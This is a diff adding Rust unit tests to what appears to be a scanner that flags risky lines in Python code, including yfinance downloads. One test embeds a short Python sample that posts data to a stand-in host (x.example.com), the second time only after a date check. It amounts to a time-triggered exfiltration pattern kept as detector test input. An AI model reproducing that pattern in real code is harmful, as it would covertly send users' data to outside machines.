@@ -98,6 +98,24 @@ fn the_wire_format_is_that_of_the_table() {
 }
 
 #[test]
+fn a_line_that_is_reached_twice_is_listed_once() {
+    let program = "import requests, time\ndef put(rows):\n    requests.post('https://x.example.com', json=rows)\n\
+        put(a)\nif time.time() > 1932000000:\n    put(b)\n";
+    let inspection = inspected(program);
+    let whys: Vec<&str> = inspection.threats_detected.iter().map(|threat| threat.why.as_str()).collect();
+    assert_eq!(whys, ["sends data to another machine, and only at certain times"]);
+}
+
+#[test]
+fn tables_of_market_data_are_fetched_once() {
+    let program = "import yfinance as yf\ndata = yf.download('AAPL')\nframe = data.copy()\nframe = frame.dropna()\n\
+        names = data.columns.droplevel(1)\nbars = yf.Ticker('AAPL').history()\n";
+    let inspection = inspected(program);
+    let lines: Vec<u32> = inspection.threats_detected.iter().map(|threat| threat.line).collect();
+    assert_eq!(lines, [2, 6]);
+}
+
+#[test]
 fn many_harmless_lines_never_look_like_a_bad_one() {
     let many = "import time\n".to_owned() + &"time.sleep(1)\n".repeat(3_000);
     let inspection = inspected(&many);
